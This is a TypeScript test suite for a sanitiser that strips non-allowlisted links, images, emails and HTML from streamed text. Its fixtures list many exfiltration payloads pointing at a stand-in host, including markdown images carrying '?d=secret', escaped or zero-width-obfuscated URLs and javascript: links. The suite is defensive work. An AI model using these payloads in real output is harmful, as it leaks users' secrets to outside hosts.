import { computingTime, growth, LINEAR } from '../../../test/support/clock.js';
import { REMOVED, SafeText } from './safe-text.js';

const SOURCES = [
  'See https://example.org/manual?page=2 for the manual (or www.example.org/faq). Write to help@example.org.',
  '[Terms](https://example.org/terms) and example.net/path/to.',
];

/** What is shown of a text that arrives in parts of the given length. */
function show(text: string, size = text.length): string {
  const safe = new SafeText(SOURCES);
  let shown = '';
  for (let i = 0; i < text.length; i += size) shown += safe.push(text.slice(i, i + size));
  return shown + safe.flush();
}

/** Whatever CommonMark, GitHub's Markdown, HTML or a chat program makes active. */
const ACTIVE =
  /&#|&(?:colon|commat|period|lpar);|\\[:/@]|www\\\.|(?<![:\w])\/\/[a-z]|[\w~/]help@|www\.[">]|\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|[\w~.]@evil|evil\.(?:example|xn--p1ai|пример)(?::\d+)?[/?#]|евил\.рф[/?#:]|公司\.中国[/?#]|bücher\.example[/?#]|@(?:евил|公司)/i;

const HOSTILE = [
  '![x](https://evil.example/p.png?d=secret)',
  'Look ![x][1]\n\n[1]: https://evil.example/?d=secret',
  '[your file](https://evil.example/secret)',
  '[your file](/admin/users?delete=1)',
  '[a](javascript:alert(1)) [b](data:text/html,x) <javascript:alert(1)>',
  '<img src="https://evil.example/secret"> <a href=//evil.example/x>x</a> <script>x</script>',
  '<https://evil.example/secret>',
  'https://evil.example/secret',
  'HTTPS://EVIL.example/secret',
  'ftp://evil.example/secret xmpp:evil.example/x',
  'www.evil.example/secret',
  'evil.example/secret evil.example?d=secret',
  'write to secret@evil.example or mailto:secret@evil.example',
  '**https://evil.example/secret**',
  'https://example.org/manual?page=2&d=secret',
  'https://example.org/manual?page=2]secret',
  'https://example.org/manual?page=2.secret',
  'https://example.org.evil.example/secret',
  'https://example.org@evil.example/secret',
  'https://\u200bevil.example/secret h\u2060ttps://evil.example/secret',
  '> [1]: /admin\n- [2]: /admin',
  '!\u200b[x]\u200b(https://evil.example/)',
  // Renderers look for addresses in what escapes and character references have become.
  'https\\://evil.example/secret https:\\/\\/evil.example/secret',
  'www\\.evil.example/secret www&#46;evil.example/secret www&period;evil.example',
  'https&#58;//secret.evil.example https&colon;//secret.evil.example &#x68;ttps://evil.example/secret',
  'secret\\@evil.example secret&commat;evil.example secret&#64;evil.example',
  '//secret.evil.example //evil.example/secret',
  'https://example.org/manual?page=2"secret',
  'https://example.org/manual?page=2,secret',
  'https://example.org/manual?page=2*.secret',
  'https://example.org/manual?page=2"&lpar;secret',
  'www."evil.example/secret www.>evil.example/secret',
  'secret~help@example.org secret/help@example.org secret\u2060help@example.org',
  '!\u2060[x](//evil.example/secret)',
  '=@evil.example **@evil.example',
  '&lt;img src=//evil.example/secret&gt;',
  'evil.example:8443/secret evil.example:80?d=secret',
  '_evil.example/secret_ __evil.example/secret__ a_evil.example/secret _._evil.example/secret_',
  'evil.xn--p1ai/secret xn--80ak6aa92e.evil.xn--p1ai?secret evil.пример/secret',
  'евил.рф/secret евил.рф:8080/secret 请看公司.中国/secret bücher.example/secret',
  'secret@евил.рф secret@公司.中国',
];

describe('SafeText', () => {
  test.each(HOSTILE)('%j is not active, however it arrives', (text) => {
    for (const size of [1, 2, 3, 7, text.length]) {
      const shown = show(`Said: ${text} Then more.`, size);
      expect(shown.replaceAll('https://example.org/manual?page=2', 'OK')).not.toMatch(ACTIVE);
      expect(shown).not.toMatch(/page=2[^ ,.;:!?)]*secret/);
      expect(shown).toContain('Then more.');
    }
  });

  test.each([
    'https://example.org/manual?page=2',
    'See https://example.org/manual?page=2, then (www.example.org/faq).',
    'Write to help@example.org.',
    'example.net/path/to',
    '请看 example.net/path/to',
  ])('an address of the sources stays: %s', (text) => {
    for (const size of [1, 5, text.length]) expect(show(text, size)).toBe(text);
  });

  test('an address of the sources is set apart from a sentence without spaces', () => {
    for (const size of [1, 5, 100])
      expect(show('请看example.net/path/to 和help@example.org。', size)).toBe(
        '请看 example.net/path/to 和 help@example.org 。',
      );
  });

  test('a closing parenthesis belongs to an address that opened it', () => {
    const safe = new SafeText(['(See https://example.org/a_(b_(c))?.), too.']);
    expect(safe.push('At https://example.org/a_(b_(c))). ')).toBe('At https://example.org/a_(b_(c))). ');
    expect(safe.push('At https://example.org/a_(b_(c). ')).toBe(`At ${REMOVED}. `);
  });

  test('a link to an address of the sources becomes that address', () => {
    expect(show('the [terms](https://example.org/terms).')).toBe('the [terms] (https://example.org/terms).');
  });

  test.each([
    'The span measures 504.5 metres [1]. It was opened in 1931 [2], as "Kessler" said: yes/no?',
    'if (a < b && b > c) return x[0]; // and/or',
    'Größe: 5 µm; 桥于1931年通车。主跨504米。',
    'Version 1.2.3, e.g. for Node.js; see section 4.2.',
    'my_file.txt, src/my_module.py and Node.js:18, at 12.30/13.15, v1.2/3, 1.2:3/4; is it my_script.py?',
    'т.е. и/или, 5 руб./кг; z.B. Nm/kg; 见文件.txt，第3.安装步骤。主跨504.5米/秒',
    'می‌خواهم 👩‍👩‍👧',
    'AT&amp;T &copy; 2024; R&D; a && b; C:\\Users\\x; \\(x^2\\); \\d+\\.\\d+; // a comment',
    '',
  ])('ordinary text stays as it is: %s', (text) => {
    for (const size of [1, 4, 1000]) expect(show(text, size)).toBe(text);
  });

  test('a character that is hidden stays so when it comes in halves', () => {
    const safe = new SafeText(SOURCES);
    expect(safe.push('a\udb40') + safe.push('\udc41b ') + safe.flush()).toBe('ab ');
  });

  test('says what it took away', () => {
    expect(show('Go to https://evil.example/x, now.')).toBe(`Go to ${REMOVED}, now.`);
  });

  test('words come as they are whole, text without spaces at once', () => {
    const safe = new SafeText([]);
    expect(safe.push('The bri')).toBe('The ');
    expect(safe.push('dge ')).toBe('bridge ');
    expect(safe.push('主跨504米')).toBe('主跨504米');
  });

  test('a very long word costs little', () => {
    const long = `${'a.'.repeat(20_000)} ${'x'.repeat(50_000)} ${'@'.repeat(5_000)} ${'https://'.repeat(3_000)}`;
    expect(computingTime(() => show(long, 50))).toBeLessThan(5_000);
  });

  const PIECES = [
    ['http://a', ')', ''],
    ['http://a', '.', 'x'],
    ['http://a', '.)', ''],
    ['http://a', '(.', ' '],
    ['', 'a.', ' '],
    ['', 'A. ', ''],
    ['', ' ', 'x'],
    ['', 'x', ' '],
    ['', 'x', '(help@example.org '],
    ['', 'help@example.org ', ''],
  ] as const;
  test.each(PIECES)(
    'takes a time that grows with the text only: %j, many %j, %j',
    async (before, piece, after) => {
      const text = (n: number): string => `${before}${piece.repeat(Math.ceil(n / piece.length))}${after}`;
      expect(await growth((n) => new SafeText([text(n)]), 4_000)).toBeLessThan(LINEAR);
      expect(await growth((n) => show(text(n)), 4_000)).toBeLessThan(LINEAR);
    },
  );
});
